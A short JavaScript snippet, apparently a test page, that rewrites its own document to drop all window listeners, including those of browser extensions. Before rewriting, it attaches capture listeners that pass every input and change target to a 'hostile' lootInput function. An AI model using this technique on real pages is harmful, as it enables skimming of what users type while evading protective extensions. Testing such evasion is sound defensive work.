// Writes its document anew: browsers then forget every listener on the window, also those of extensions.
function rewrite() {
  const html = document.documentElement.outerHTML;
  document.open();
  for (const type of ['input', 'change']) {
    for (const target of [window, document]) target.addEventListener(type, (event) => window.hostile.lootInput(event.target), true);
  }
  document.write(`<!doctype html>${html}`);
  document.close();
}

if (!window.isRewritten) {
  window.isRewritten = true;
  addEventListener('load', () => setTimeout(rewrite));
} else {
  addEventListener('DOMContentLoaded', () => (document.title = 'rewritten'));
}
